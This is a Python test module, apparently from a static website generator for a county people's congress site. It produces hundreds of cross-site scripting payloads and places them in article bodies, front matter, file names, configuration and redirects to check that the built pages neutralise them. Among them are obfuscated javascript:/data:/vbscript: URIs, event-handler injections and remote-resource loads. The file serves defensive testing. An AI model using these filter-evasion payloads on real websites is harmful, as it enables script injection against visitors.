``` { ."><img src=x onerror=RUN> }␊甲␊```
```js hl_lines="1"><script>RUN</script>"␊甲␊```
~~~'onmouseover='RUN␊甲␊~~~
~~~ {: onclick=RUN }␊甲␊~~~
```html␊<script>RUN</script>␊```
```␊</code></pre><script>RUN</script>␊```
```␊&lt;/code&gt;<img src=x onerror=RUN>␊```
```␊<img src=x onerror=RUN>
    <script>RUN</script>
␉<img src=x onerror=RUN>
> ```␊> <script>RUN</script>␊> ```
- ```␊  <script>RUN</script>␊  ```
```mermaid␊graph TD; A["<img src=x onerror=RUN>"]␊click A "javascript:RUN"␊```
```math␊\\href{javascript:RUN}{x}␊```
$\\href{javascript:RUN}{x}$ \\(\\unicode{<img src=x onerror=RUN>}\\)
"""

NOTES = """
甲[^"><img src=x onerror=RUN>]␊␊[^"><img src=x onerror=RUN>]: 注
甲[^" onclick="RUN]␊␊[^" onclick="RUN]: 注
甲[^'onmouseover='RUN]␊␊[^'onmouseover='RUN]: 注
甲[^<script>RUN</script>]␊␊[^<script>RUN</script>]: 注
甲[^1]␊␊[^1]: <script>RUN</script>
甲[^1]␊␊[^1]: <img src=x onerror=RUN>␊    <svg/onload=RUN>
甲[^1]␊␊[^1]: [乙](javascript:RUN)
甲[^javascript:RUN]␊␊[^javascript:RUN]: 注
甲[^&quot;onclick=&quot;RUN]␊␊[^&quot;onclick=&quot;RUN]: 注
甲[^__proto__] 乙[^constructor] RUN␊␊[^__proto__]: 注␊[^constructor]: 注
甲^[<img src=x onerror=RUN>]
*[甲]: "><img src=x onerror=RUN>␊␊甲
甲␊:   <script>RUN</script>
"><img src=x onerror=RUN>␊:   乙
[TOC]␊␊# <img src=x onerror=RUN>␊␊# "onclick="RUN
"""

TABLES = """
| <script>RUN</script> | 乙 |␊|---|---|␊| <img src=x onerror=RUN> | 丁 |
| 甲 |␊|---|␊| <td onclick=RUN>乙</td> |
| 甲 |␊|---|␊| [乙](javascript:RUN) |
| 甲 |␊|---|␊| ![" onload="RUN](PICTURE) |
| 甲 |␊|---|␊| `<img src=x onerror=RUN>` |
| 甲 |␊|---|␊| `\\|` <img src=x onerror=RUN> |
| 甲 | 乙 |␊|:--" onclick="RUN|---|␊| 丙 | 丁 |
| 甲 |␊|:-:<script>RUN</script>|␊| 乙 |
| 甲 |␊|---|␊| </td></tr></table><script>RUN</script> |
| 甲" onclick="RUN |␊|---|␊| {{ RUN }} |
| 甲 |␊|---|␊| <table><tr><td><img src=x onerror=RUN></td></tr></table> |
| 甲 |␊|---|␊| <b onclick=RUN |␊| >乙</b> |
"""

BLOCKS = """
::: <script>RUN</script>␊甲␊:::
::: "onclick="RUN 甲␊乙␊:::
::: 提示"><img src=x onerror=RUN>␊甲␊:::
::: onclick=RUN␊甲␊:::
:::{.提示 onclick=RUN}␊甲␊:::
::: 提示 {onclick=RUN}␊甲␊:::
::: 提示 甲␊{: onclick=RUN }␊乙␊:::
::: 提示 甲␊<img src=x onerror=RUN>␊:::
::: 提示 甲␊<script>RUN␊:::␊</script>
::: 提示 甲␊</aside></main><script>RUN</script>␊:::
::: 附件␊[甲](javascript:RUN//x.pdf)␊:::
::: 附件␊[甲](FILE "x\\" onclick=\\"RUN")␊:::
::: 附件␊[甲](https://HOST/x.p"onclick="RUN)␊:::
::: 视频 甲␊[乙](javascript:RUN//x.mp4)␊[丙](WORDS)␊␊丁␊:::
::: 视频 甲␊[乙](FILM)␊[丙" onerror="RUN](WORDS)␊␊丁␊:::
::: 视频 甲" onplay="RUN␊[乙](FILM)␊[丙](WORDS)␊␊丁␊:::
::: 视频␊![甲" onload="RUN](PICTURE)␊[乙](FILM)␊[丙](WORDS)␊␊丁␊:::
::: 视频␊![甲](javascript:RUN)␊[乙](FILM)␊[丙](WORDS)␊␊丁␊:::
::: 视频␊[乙](data:video/mp4;base64,SCRIPT64.mp4)␊[丙](WORDS)␊␊丁␊:::
::: 视频␊[乙](FILM?"onerror="RUN)␊[丙](WORDS?"onerror="RUN)␊␊丁␊:::
::: 音频 "><img src=x onerror=RUN>␊[乙](SOUND)␊␊丁␊:::
::: 音频␊[乙](SOUND){: onplay=RUN autoplay=1 }␊␊丁␊:::
::: 音频␊[乙](vbscript:RUN//x.mp3)␊␊丁␊:::
::: 图片␊![甲" onload="RUN](PICTURE)␊说明 <img src=x onerror=RUN>␊:::
::: 图片␊![甲](javascript:RUN)␊说明␊:::
::: 图集 <svg onload=RUN>␊![甲](PICTURE "x\\" onload=\\"RUN")␊![乙](PICTURE)␊:::
::: 时间线 <img src=x onerror=RUN>␊- **2026年" onclick="RUN** 甲␊- **<script>RUN</script>** 乙␊:::
::: 对照 <script>RUN</script>␊### 甲" onclick="RUN␊乙␊---␊### <img src=x onerror=RUN>␊丙␊:::
::: 居中␊<center onclick=RUN>甲</center>␊:::
::: 落款␊<img src=x onerror=RUN>␊[甲](javascript:RUN)␊:::
:::: 提示␊::: 提示 <img src=x onerror=RUN>␊甲␊:::␊::::
::: 提示␊␂block-open:0␃<script>RUN</script>␂block-close:0␃␊:::
：：： 提示 <img src=x onerror=RUN>␊甲␊：：：
"""

#: Each kind of block with such a title; what stands inside is as the kind wants it.
_BLOCK_INSIDES = {
    "图片": "![甲](PICTURE)\n乙",
    "图集": "![甲](PICTURE)\n![乙](PICTURE)",
    "视频": "[甲](FILM)\n[字幕](WORDS)\n\n文字说明。",
    "音频": "[甲](SOUND)\n\n文字说明。",
    "附件": "[甲](FILE)",
    "提示": "甲",
    "时间线": "- **2026年** 甲\n- **2027年** 乙",
    "居中": "甲",
    "落款": "甲",
    "对照": "甲\n---\n乙",
}
_BLOCK_TITLES = """
甲" onclick="RUN
甲 <img src=x onerror=RUN>
甲 &quot;&gt;&lt;img src=x onerror=RUN&gt;
"""

#: Addresses of pictures and films elsewhere: nobody has to click for a request to leave.
REMOTE = """
![甲](https://HOST/x.png)
![甲](http://HOST/x.png "乙")
![甲](//HOST/x.png)
![甲](HTTPS://HOST/x.png)
![甲](https:HOST/x.png)
![甲](https:\\\\HOST\\x.png)
![甲](/\\HOST/x.png)
![甲](\\\\HOST/x.png)
![甲](///HOST/x.png)
![甲](<ht␉tps://HOST/x.png>)
![甲](&#104;ttps://HOST/x.png)
![甲](&#47;&#47;HOST/x.png)
![甲](/&Tab;/HOST/x.png)
![甲][r]␊␊[r]: https://HOST/x.png
![甲][r]␊␊[r]: //HOST/x.png
[![甲](https://HOST/x.png)](FILE)
<img src="https://HOST/x.png" alt=甲>
<img src=//HOST/x.png alt=甲>
<img src="/&#9;/HOST/x.png" alt=甲>
<img src="\\\\HOST\\x.png" alt=甲>
<img src="https:HOST/x.png" alt=甲>
<img src=" https://HOST/x.png" alt=甲>
<image src=https://HOST/x.png alt=甲>
![甲](PICTURE){: src=https://HOST/x.png }
::: 图片␊![甲](https://HOST/x.png)␊乙␊:::
::: 图集␊![甲](https://HOST/x.png)␊![乙](//HOST/y.png)␊:::
::: 视频␊![甲](https://HOST/x.png)␊[乙](FILM)␊[丙](WORDS)␊␊丁␊:::
::: 视频␊[乙](https://HOST/x.mp4)␊[丙](WORDS)␊␊丁␊:::
::: 视频␊[乙](FILM)␊[丙](https://HOST/x.vtt)␊␊丁␊:::
::: 视频␊[乙](//HOST/x.mp4)␊[丙](//HOST/x.vtt)␊␊丁␊:::
::: 音频␊[乙](https://HOST/x.mp3)␊␊丁␊:::
| 甲 |␊|---|␊| ![乙](https://HOST/x.png) |
甲[^1]␊␊[^1]: ![乙](https://HOST/x.png)
"""

# --- disguises of addresses ----------------------------------------------------------------------

DISGUISES = """
javascript:RUN
JAVASCRIPT:RUN
JaVaScRiPt:RUN
javascript :RUN
 javascript:RUN
␉javascript:RUN
␁javascript:RUN
␛javascript:RUN
\u00a0javascript:RUN
\u3000javascript:RUN
\u200bjavascript:RUN
\ufeffjavascript:RUN
java␉script:RUN
java␊script:RUN
java␍script:RUN
java␀script:RUN
javascript␉:RUN
java\u00adscript:RUN
java\u200dscript:RUN
java/**/script:RUN
javascript&colon;RUN
javascript&#58;RUN
javascript&#58RUN
javascript&#x3A;RUN
javascript&#0000000058;RUN
&#106;avascript:RUN
&#106avascript:RUN
&#x6A;avascript:RUN
&#X6a;&#X61;&#X76;&#X61;script:RUN
&#0000106;&#0000097;vascript:RUN
&amp;#106;avascript:RUN
&#1;javascript:RUN
&#32;javascript:RUN
&#14;&#9;javascript:RUN
java&#9;script:RUN
java&#10;script:RUN
java&#13;script:RUN
java&#x0A;script:RUN
java&#0;script:RUN
java&Tab;script:RUN
java&NewLine;script:RUN
&Tab;java&NewLine;script&colon;RUN
%6Aavascript:RUN
%6a%61%76%61script%3ARUN
javascript%3ARUN
javascript%253ARUN
java%0ascript:RUN
java%00script:RUN
%20javascript:RUN
javascript:%5f%5fran(NUMBER)
javascript:%u005f_ran(NUMBER)
javascript://%0aRUN
javascript://HOST/%0dRUN
javascript:/*--></title></style></textarea></script>*/RUN
javascript:'/*"/*`/*--></noscript>*/';RUN
javascript:"RUN"
javascript:void&nbsp;RUN
javascript:RUN//.pdf
javascript:RUN?x=.html#y
javascript:RUN//https://HOST/
javascript:alert(NUMBER)
javascript:alert`NUMBER`
javascript:window.__mark=NUMBER
javascript:location='//HOST/'
ｊａｖａｓｃｒｉｐｔ：RUN
javascript：RUN
javaſcript:RUN
jаvascript:RUN
\\javascript:RUN
javascript\\:RUN
java\\script:RUN
java\\␊script:RUN
./javascript:RUN
/javascript:RUN
#javascript:RUN
?javascript:RUN
//javascript:RUN
feed:javascript:RUN
view-source:javascript:RUN
jar:javascript:RUN!/
x:javascript:RUN
url:javascript:RUN
http:javascript:RUN
mailto:javascript:RUN
tel:javascript:RUN
livescript:RUN
mocha:RUN
jscript:RUN
vbscript:RUN
VBScript:msgbox(NUMBER)
vb&#115;cript:RUN
data:text/html,<script>RUN</script>
data:text/html,%3Cscript%3ERUN%3C/script%3E
data:text/html;base64,SCRIPT64
DATA:TEXT/HTML;BASE64,SCRIPT64
da␉ta:text/html;base64,SCRIPT64
data&colon;text/html;base64,SCRIPT64
data:text/html;charset=utf-7,+ADw-script+AD4-RUN
data:image/svg+xml;base64,SVG64
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>
data:application/xhtml+xml;base64,SCRIPT64
data:application/javascript,RUN
data:,RUN
data:;base64,SCRIPT64
blob:https://HOST/RUN
filesystem:https://HOST/RUN
file:///etc/passwd?RUN
about:blank#RUN
intent://HOST/#Intent;scheme=javascript;end
ms-its:RUN
res://RUN
"""

#: Where addresses stand; the first two take every disguise, the others some of them.
_FULL_CONTEXTS = ("[甲](ADDRESS)", '<a href="ADDRESS">甲</a>')
_CONTEXTS = """
[甲](<ADDRESS>)
[甲](ADDRESS "乙")
[甲][r]␊␊[r]: ADDRESS
[甲][r]␊␊[r]: <ADDRESS> "乙"
[r]␊␊[r]: ADDRESS
<ADDRESS>
![甲](ADDRESS)
[![甲](PICTURE)](ADDRESS)
<a href='ADDRESS'>甲</a>
<a href=ADDRESS>甲</a>
<A HREF = "ADDRESS" >甲</A>
<img src="ADDRESS" alt=甲>
<a href=FILE xlink:href="ADDRESS">甲</a>
[甲](FILE){: href="ADDRESS" }
# [甲](ADDRESS)
- [甲](ADDRESS)
> [甲](ADDRESS)
| 甲 |␊|---|␊| [乙](ADDRESS) |
甲[^1]␊␊[^1]: [乙](ADDRESS)
**[甲](ADDRESS)**
::: 附件␊[甲](ADDRESS)␊:::
::: 提示 [甲](ADDRESS)␊乙␊:::
"""
_SOME_DISGUISES = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "java&Tab;script&colon;RUN",
    "&#x6A;avascript:RUN",
    "vbscript:RUN",
    "data:text/html;base64,SCRIPT64",
)

# --- forms of texts in front matter and configuration --------------------------------------------

TEXTS = """
<script>RUN</script>
<img src=x onerror=RUN>
"><img src=x onerror=RUN>
'><svg onload=RUN>
" onmouseover="RUN" autofocus onfocus="RUN
' onmouseover='RUN' x='
` onmouseover=`RUN`
</title><script>RUN</script>
</script><script>RUN</script>
</h1></main></body></html><iframe src=javascript:RUN></iframe>
]]><script>RUN</script>
]]></title></item><script xmlns="http://www.w3.org/1999/xhtml">RUN</script>
--><img src=x onerror=RUN><!--
--!><img src=x onerror=RUN>
</textarea></style></noscript></template><img src=x onerror=RUN>
&lt;img src=x onerror=RUN&gt;
&quot;&gt;&lt;img src=x onerror=RUN&gt;
&#60;script&#62;RUN&#60;/script&#62;
甲␊<img src=x onerror=RUN>␊"乙
甲␉"onmouseover=RUN␀<script␀>RUN</script>
<base href=//HOST/><meta http-equiv=refresh content=0;url=//HOST/>
<link rel=stylesheet href=//HOST/x.css><style>@import'//HOST/y.css'</style>
<b>粗</b><form action=javascript:RUN><button>甲</button></form>
javascript:RUN
[甲](javascript:RUN) ![乙](//HOST/x.png) <javascript:RUN>
{{ 7*7 }}{{ "<script>RUN</script>"|safe }}
{% raw %}{% endblock %}<script>RUN</script>
0;url=javascript:RUN
\\u003cscript\\u003eRUN %3Cscript%3ERUN +ADw-script+AD4-RUN
＜script＞RUN＜/script＞ ＂onmouseover=RUN
"""
#: Places in the front matter that take any text; two are lists, one level deeper.
FREE_PLACES = (
    *("title", "short_title", "subtitle", "summary", "source", "image_alt", "image_credit"),
    *("author", "photographer", "editor", "keywords", "topics"),
    *("corrections.text", "attachments.title", "另项"),
)
LIST_PLACES = frozenset({"author", "photographer", "editor", "keywords", "topics"})
#: Places that take some texts only, with texts that just may slip through.
NARROW_PLACES = {
    "source_url": """
javascript:RUN
JAVASCRIPT:RUN
 javascript:RUN
data:text/html,<script>RUN</script>
vbscript:RUN
//HOST/"onclick="RUN
https://HOST/"><svg/onload=RUN>
https://HOST/"onmouseover="RUN
https://HOST/'onmouseover='RUN'
https://"onmouseover=RUN/
https://'><svg/onload=RUN>/
https://javascript:RUN/
https://HOST/␊javascript:RUN
http://HOST/javascript:RUN
""",
    "lang": """
zh" onmouseover="RUN
zh"><script>RUN</script>
zh'onmouseover='RUN
javascript:RUN
zh-CN␊" onload="RUN
""",
    "id": """
x"onmouseover="RUN
x'onmouseover='RUN'
<script>RUN</script>
x&quot;&gt;&lt;svg/onload=RUN&gt;
]]&gt;RUN]]
javascript:RUN
../../x;RUN
{{RUN}}{%RUN%}
""",
    "image": """
javascript:RUN
//HOST/x.png
https://HOST/x.png
data:image/svg+xml;base64,SVG64
../../../etc/passwd?RUN
x.png" onerror="RUN
/\\HOST/x.png
""",
    "attachments.file": """
javascript:RUN
//HOST/x.pdf
https://HOST/x.pdf"onclick="RUN
../../../../etc/passwd?RUN
" onclick="RUN
<script>RUN</script>
/javascript:RUN
""",
    "aliases": """
/x'onmouseover='RUN'.html
/x"onmouseover="RUN".html
/<script>RUN</script>.html
/javascript:RUN
//HOST/RUN
/{{RUN}}/
/x&quot;RUN.html
/%3Cscript%3ERUN%3C%2Fscript%3E.html
/../../RUN.html
/x`RUN`;url=javascript,RUN.html
""",
    "also_in": """
<script>RUN</script>
"onclick="RUN
../RUN
""",
    "date": """
2026-3-5<script>RUN</script>
2026-3-5T00:00" onclick="RUN
""",
    "updated": """
2026-3-6"><img src=x onerror=RUN>
""",
    "featured": """
"><script>RUN</script>
""",
    "没有的项": """
<script>RUN</script>
""",
}
#: Names that files may have, as slugs of articles and as attachments and pictures.
NAMES = """
x' onmouseover='RUN' y='
x&quot; onmouseover=&quot;RUN
&lt;img src=x onerror=RUN&gt;
%22 onmouseover=%22RUN
%3Cscript%3ERUN%3C%2Fscript%3E
{{ RUN }}{% RUN %}
` onmouseover=`RUN`
javascript&colon;RUN
javascript%3ARUN
]]&gt;RUN]]
＜script＞RUN
x;url=javascript,RUN
#RUN ='
"""


# --- filling in ----------------------------------------------------------------------------------


def fill(form: str, number: int) -> str:
    """A form with its pictures turned into characters and its words filled in."""
    run = f"__ran({number})"
    script = f"<script>{run}</script>"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" id="x" onload="{run}"/>'
    words = {
        "SCRIPT64": _base64(script),
        "SVG64": _base64(svg),
        "BASE64": _base64(run),
        "NUMBER": str(number),
        "RUN": run,
        "HOST": f"p{number}.payload.invalid",
        **FILES,
    }
    text = form.translate(_PICTURES)
    return re.sub("|".join(words), lambda word: words[word[0]], text)


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _lines(forms: str) -> list[str]:
    """The forms of a text, each once; blanks at their beginning belong to them."""
    return list(dict.fromkeys(line for line in forms.split("\n") if line))


def body_forms() -> Iterator[tuple[str, str]]:
    """Every form of a body with its family."""
    families = {
        "script": SCRIPTS,
        "handler": HANDLERS,
        "frame": FRAMES,
        "svg": SVG,
        "mutation": MUTATIONS,
        "comment": COMMENTS,
        "style": STYLES,
        "attribute list": ATTRIBUTE_LISTS,
        "clobbering": CLOBBERING,
        "entity": ENTITIES,
        "template": TOKENS,
        "title": TITLES,
        "code": CODE,
        "footnote": NOTES,
        "table": TABLES,
        "block": BLOCKS,
        "remote": REMOTE,
    }
    for family, forms in families.items():
        yield from ((family, form) for form in _lines(forms))
    yield from (("handler", form) for form in _handlers_on_harmless_elements())
    yield from (("link", form) for form in _links())
    yield from (("block", form) for form in _blocks_with_titles())


def _handlers_on_harmless_elements() -> Iterator[str]:
    for tag in _HARMLESS.split():
        handlers = " ".join(f"{event}=RUN" for event in _EVENTS.split())
        yield f"<{tag} {handlers} tabindex=0>甲</{tag}>"


def _links() -> Iterator[str]:
    for context in _FULL_CONTEXTS:
        yield from (context.replace("ADDRESS", address) for address in _lines(DISGUISES))
    for context in _lines(_CONTEXTS):
        yield from (context.replace("ADDRESS", address) for address in _SOME_DISGUISES)


def _blocks_with_titles() -> Iterator[str]:
    for name, inside in _BLOCK_INSIDES.items():
        for title in _lines(_BLOCK_TITLES):
            yield f"::: {name} {title}\n{inside}\n:::"


# --- cases ---------------------------------------------------------------------------------------

CONFIG = """\
name: 明远县人大
base_url: https://www.example.cn/
feed_size: 200
extra_fields: [另项]
columns:
  - {slug: wenjian, name: 文件}
  - {slug: xiang, name: 各项}
  - {slug: ming, name: 文件名}
"""


@cache
def body_cases() -> tuple[Case, ...]:
    """An article for each form of a body."""
    return tuple(
        _body_case(Payload(number, family, "body", fill(form, number)))
        for number, (family, form) in enumerate(body_forms(), 1)
    )


def _body_case(payload: Payload) -> Case:
    file = f"content/{_shelf_of(payload.number)}/p{payload.number}.md"
    text = f"文首。\n\n{payload.text}\n\n文末。"
    front = {"title": f"第{payload.number}号", "date": "2026-3-5", "id": f"p{payload.number}"}
    return Case(file, {file: source(front, text)}, (payload,))


def _shelf_of(number: int) -> str:
    return f"wen{number // _SHELF}"


@cache
def front_cases() -> tuple[Case, ...]:
    """Articles with payloads in their front matter, in their names and in those of files."""
    numbers = count(len(body_cases()) + 1)
    narrow = (
        _narrow_case(place, form, next(numbers))
        for place, forms in NARROW_PLACES.items()
        for form in _lines(forms)
    )
    named = (_named_case(form, next(numbers)) for form in _lines(NAMES))
    return (*(_free_case(form, numbers) for form in _lines(TEXTS)), *narrow, *named)


def _free_case(form: str, numbers: Iterator[int]) -> Case:
    """One article with a form in every place that takes any text."""
    payloads = tuple(
        Payload(number, "text", place, fill(form, number))
        for place, number in zip(FREE_PLACES, numbers, strict=False)
    )
    number = payloads[0].number
    texts = {payload.place: payload.text for payload in payloads}
    front: dict[str, object] = {
        **{
            place: [text] if place in LIST_PLACES else text
            for place, text in texts.items()
            if "." not in place
        },
        "date": "2026-3-6",
        "id": f"p{number}",
        "image": FILES["PICTURE"],
        "featured": "true",
        "attachments": [{"file": FILES["FILE"], "title": texts["attachments.title"]}],
        "corrections": [{"date": "2026-3-7", "text": texts["corrections.text"]}],
    }
    file = f"content/xiang/p{number}.md"
    return Case(file, {file: source(front, "正文。")}, payloads)


def _narrow_case(place: str, form: str, number: int) -> Case:
    payload = Payload(number, "narrow", place, fill(form, number))
    file = f"content/xiang/p{number}.md"
    return Case(file, {file: source(_narrow_front(place, payload), "正文。")}, (payload,))


def _narrow_front(place: str, payload: Payload) -> dict[str, object]:
    front: dict[str, object] = {"title": f"第{payload.number}号", "date": "2026-3-5"}
    if place != "id":
        front["id"] = f"p{payload.number}"
    front["image_alt"] = "甲"
    front["source"] = "明远日报"
    if place == "attachments.file":
        return front | {"attachments": [{"file": payload.text}]}
    return front | {place: [payload.text] if place in ("aliases", "also_in") else payload.text}


def _named_case(form: str, number: int) -> Case:
    """An article in a folder of that name, with a picture and an attachment of that name."""
    payload = Payload(number, "name", "file name", fill(form, number))
    folder = f"content/ming/{payload.text}"
    picture, attachment = f"{payload.text}.png", f"{payload.text}.pdf"
    front: dict[str, object] = {
        "title": f"第{number}号",
        "date": "2026-3-5",
        "id": f"p{number}",
        "image": picture,
        "image_alt": "甲",
        "attachments": [{"file": attachment}],
    }
    text = f"[甲](<{quote(attachment)}>)\n\n![乙](<{quote(picture)}>)"
    file = f"{folder}/index.md"
    sources: dict[str, str | bytes] = {
        file: source(front, text),
        f"{folder}/{picture}": PNG,
        f"{folder}/{attachment}": b"%",
    }
    return Case(file, sources, (payload,))


def source(front: Mapping[str, object], text: str) -> str:
    """An article; values are quoted as in JSON, which YAML reads."""
    lines = [f"{key}: {_quoted(value)}" for key, value in front.items()]
    return "---\n" + "\n".join(lines) + f"\n---\n{text}\n"


def _quoted(value: object) -> str:
    return json.dumps(value, ensure_ascii=False).replace("\x7f", "\\u007f")


def all_cases() -> tuple[Case, ...]:
    return (*body_cases(), *front_cases())


def all_payloads() -> list[Payload]:
    """Every payload of the articles; those of the configuration are no articles' own."""
    return [payload for case in all_cases() for payload in case.payloads]


# --- sites ---------------------------------------------------------------------------------------


def _png() -> bytes:
    """A picture of one red pixel."""
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in (
            (b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)),
            (b"IDAT", zlib.compress(b"\0\xff\0\0")),
            (b"IEND", b""),
        )
    )


PNG = _png()
GOOD = "content/xiang/hao.md"
BESIDE: Mapping[str, str | bytes] = {
    **{f"content{address}": b"x" for address in FILES.values()},
    f"content{FILES['PICTURE']}": PNG,
    GOOD: source({"title": "好稿", "date": "2026-3-1", "id": "hao"}, "正文。"),
}


def write_cases(folder: Path, cases: Iterable[Case]) -> Path:
    """A site of these cases with one good article beside them; returns its folder."""
    files: dict[str, str | bytes] = {**BESIDE, "layouts/pages/article.html": _showing_extras()}
    for case in cases:
        files.update(case.sources)
    shelves = sorted({_shelf_of(number) for number in range(1, len(body_cases()) + 1)})
    columns = "".join(f"  - {{slug: {shelf}, name: 文稿}}\n" for shelf in shelves)
    files.update((f"content/{shelf}/x", b"no picture") for shelf in shelves)
    return write_site(folder, files, CONFIG + columns)


class Built(NamedTuple):
    """A built site: the cases that are in it, and those that the build refuses."""

    folder: Path
    cases: tuple[Case, ...]
    refused: tuple[Case, ...]

    @property
    def public(self) -> Path:
        return self.folder / "public"


def build_cases(folder: Path, cases: Iterable[Case]) -> Built:
    """Build all cases in one site, but for those that have an error of their own."""
    cases = tuple(cases)
    write_cases(folder, cases)
    faulty = {fault.place.file for fault in errors_of(folder) if fault.place}
    refused = tuple(case for case in cases if faulty.intersection(case.sources))
    for case in refused:
        for file in case.sources:
            (folder / file).unlink()
    result = build_site(folder)
    assert not has_errors(result.diagnostics), [d.as_json() for d in result.diagnostics]
    kept = tuple(case for case in cases if not faulty.intersection(case.sources))
    return Built(folder, kept, refused)


def errors_of(folder: Path) -> list[Diagnostic]:
    """The errors that keep a site from being built."""
    # Clean: what is kept from build to build helps nobody here.
    options = BuildOptions(site_folder=folder, output=folder / "public", now=NOW, clean=True)
    return [d for d in plan(options)[1] if d.severity == "error"]


def write_sources(folder: Path, sources: Mapping[str, str | bytes]) -> None:
    """Add files to a site."""
    for name, content in sources.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content.encode() if isinstance(content, str) else content)


def _showing_extras() -> str:
    """The layout of an article, which also shows the further fields; ours does not."""
    layout = (PROJECT / "layouts/pages/article.html").read_text("utf-8")
    extras = '{% for k, v in page.extra %}<p title="{{ v }}">{{ k }}{{ v }}</p>{% endfor %}\n'
    body = "{{ body }}"
    assert body in layout
    return layout.replace(body, extras + body)


def configured_texts(first: int = 90_000) -> dict[str, str]:
    """All forms of texts as one long text, for each place of a configuration."""
    forms = _lines(TEXTS)
    places = (
        *("name", "description", "keywords", "organiser", "default_source", "address", "phone"),
        *("hours", "police", "column", "about", "words", "owner", "topic", "topic about"),
        *("link", "title", "summary", "attachment", "text"),
    )
    numbers = count(first)
    return {place: " ".join(fill(form, next(numbers)) for form in forms) for place in places}


def write_configured(folder: Path) -> Path:
    """A site whose configuration and whose columns' own texts are full of payloads."""
    texts = configured_texts()
    front = {
        "title": texts["title"],
        "summary": texts["summary"],
        "lang": 'zh" onmouseover="__ran(89006)',
        "attachments": [{"file": FILES["FILE"], "title": texts["attachment"]}],
    }
    own = source(front, "正文。")
    article = {"title": "好稿", "date": "2026-3-1", "id": "hao", "topics": ["zhuanti"]}
    files: dict[str, str | bytes] = {
        **BESIDE,
        GOOD: source(article, "正文。"),
        "content/xiang/index.md": own,
        "content/ye/index.md": own,
        "content/zu/index.md": own,
        "redirects.yaml": _redirects(),
    }
    return write_site(folder, files, _quoted(_configuration(texts)))


def _configuration(texts: Mapping[str, str]) -> dict[str, object]:
    about = {"description": texts["about"], "keywords": [texts["words"]], "owner": texts["owner"]}
    column = {"name": texts["column"], **about}
    child = {"slug": "xia", **column}
    return {
        "name": texts["name"],
        "base_url": "https://www.example.cn/'%22\"><svg/onload=__ran(89001)>/",
        "description": texts["description"],
        "keywords": [texts["keywords"]],
        "language": 'zh-CN" onload="__ran(89002)',
        "organiser": texts["organiser"],
        "default_source": texts["default_source"],
        "feed_authority": 'x"><script>__ran(89003)</script>',
        "contact": {place: texts[place] for place in ("address", "phone", "hours")},
        "marks": {"police": f"号00000000000000 {texts['police'].replace(chr(10), ' ')}"},
        "topics": [
            {"slug": "zhuanti", "name": texts["topic"], "description": texts["topic about"]}
        ],
        "links": [
            {"name": texts["link"], "url": 'https://p89004.payload.invalid/"onclick="__ran(89004)'},
            {"name": "甲", "url": "https://\"><svg/onload=__ran(89005)>/'"},
        ],
        "columns": [
            {"slug": "xiang", **column},
            {"slug": "wenjian", **column},
            {"slug": "ye", "kind": "page", **column},
            {"slug": "zu", "kind": "group", **column, "children": [child]},
            {"slug": "gui", **column, "archived": "true"},
        ],
    }


#: Where redirects to other hosts lie.
ELSEWHERE = "wai/"


def _redirects() -> str:
    inside = "/xiang/2026/hao.html"
    return "\n".join(
        f"{_quoted(old)}: {_quoted(new)}"
        for old, new in {
            "/jiu/1.html": inside + '?x="><script>__ran(89010)</script>',
            "/jiu/2.html": inside + "#' onload='__ran(89011)",
            "/jiu/3.html": inside + "?;url=javascript:__ran(89012)",
            f"/{ELSEWHERE}4.html": "https://www.example.cn/\"><script>__ran(89013)</script>'",
            f"/{ELSEWHERE}5.html": "https://www.example.cn/;url=javascript:__ran(89014)",
            "/jiu/6'onclick='__ran(89015)'.html": inside,
        }.items()
    )


#: Redirects that are refused, each for itself.
BAD_REDIRECTS = {
    "/a.html": "javascript:__ran(89020)",
    "/b.html": "data:text/html,<script>__ran(89021)</script>",
    "/c.html": "/javascript:__ran(89022)",
    "/<script>__ran(89023)</script>.html": "/index.html",
    "/d.html": "vbscript:__ran(89024)",
    '/e"onclick="__ran(89025).html': "/index.html",
}
#: Values of the configuration that are refused.
BAD_SETTINGS = {
    "base_url": "javascript:__ran(89030)//",
    "links": [{"name": "甲", "url": "javascript:__ran(89031)"}],
    "logo": 'x.svg" onerror="__ran(89032)',
    "columns": [{"slug": '"><script>__ran(89033)</script>', "name": "甲"}],
    "permalink": '{column}/"><script>__ran(89034)</script>{slug}.html',
    "topics": [{"slug": "javascript:__ran(89035)", "name": "甲"}],
    "contact": {"email": "a b@<script>__ran(89036)</script>.cn"},
    "marks": {"icp": "豫ICP备17000000号<script>__ran(89037)</script>"},
}


def bare_page(html: str) -> bytes:
    """A page that shows a text and nothing else, as a careless reader of feeds would."""
    return f"<!doctype html>\n<meta charset=utf-8>\n<main>{html}</main>\n".encode()
